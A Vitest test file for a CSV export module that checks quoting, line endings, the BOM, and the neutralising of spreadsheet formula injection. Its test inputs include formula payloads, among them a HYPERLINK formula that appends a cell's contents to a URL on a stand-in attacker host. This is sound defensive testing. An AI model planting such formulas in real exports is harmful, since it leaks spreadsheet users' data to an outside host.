import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv';
import type { Cell, ExportTable } from './table';
import { parseCsv } from '../../tests/csv-reader';

describe('CSV fields', () => {
  it.each<[Cell, string]>([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [0, '0'],
    [1234567, '1234567'],
    [-5, '-5'],
    [12.35, '12.35'],
    [Number.NaN, ''],
    [true, 'true'],
    [false, 'false'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['Zürich · 東京 · 🇩🇪', 'Zürich · 東京 · 🇩🇪'],
    ['=1+1', "'=1+1"],
    ['+49 30 1234', "'+49 30 1234"],
    ['-5', "'-5"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=HYPERLINK("https://evil.example","click")', `"'=HYPERLINK(""https://evil.example"",""click"")"`],
    ['a=b', 'a=b'],
    [' =1+1', ' =1+1'],
  ])('%j → %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });
});

describe('CSV files', () => {
  const table: ExportTable = {
    columns: ['referrer', 'clicks', 'share_percent'],
    rows: [
      ['=HYPERLINK("https://evil.example/?q="&A1,"Open")', 40, 40],
      ['https://news.example/a,b?x="y"', 35, 35],
      ['direct', 20, 20],
      ['multi\r\nline', 5, 5],
    ],
  };

  it('starts with a BOM and a header row, and ends every record with CRLF', () => {
    const file = toCsv(table);
    expect(file.startsWith('\uFEFFreferrer,clicks,share_percent\r\n')).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
    expect(new TextEncoder().encode(file).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('reads back to the same values, with formulas inert and numbers as numbers', () => {
    const { bom, records } = parseCsv(toCsv(table));
    expect(bom).toBe(true);
    expect(records).toEqual([
      ['referrer', 'clicks', 'share_percent'],
      [`'=HYPERLINK("https://evil.example/?q="&A1,"Open")`, '40', '40'],
      ['https://news.example/a,b?x="y"', '35', '35'],
      ['direct', '20', '20'],
      ['multi\r\nline', '5', '5'],
    ]);
    // No cell a spreadsheet reads as a formula; every count a plain number.
    for (const [text, clicks] of records.slice(1)) {
      expect(text).not.toMatch(/^[=+\-@\t\r]/);
      expect(Number(clicks)).not.toBeNaN();
    }
  });

  it('writes just the header for a facet without rows', () => {
    expect(toCsv({ columns: ['date', 'clicks'], rows: [] })).toBe('\uFEFFdate,clicks\r\n');
  });
});
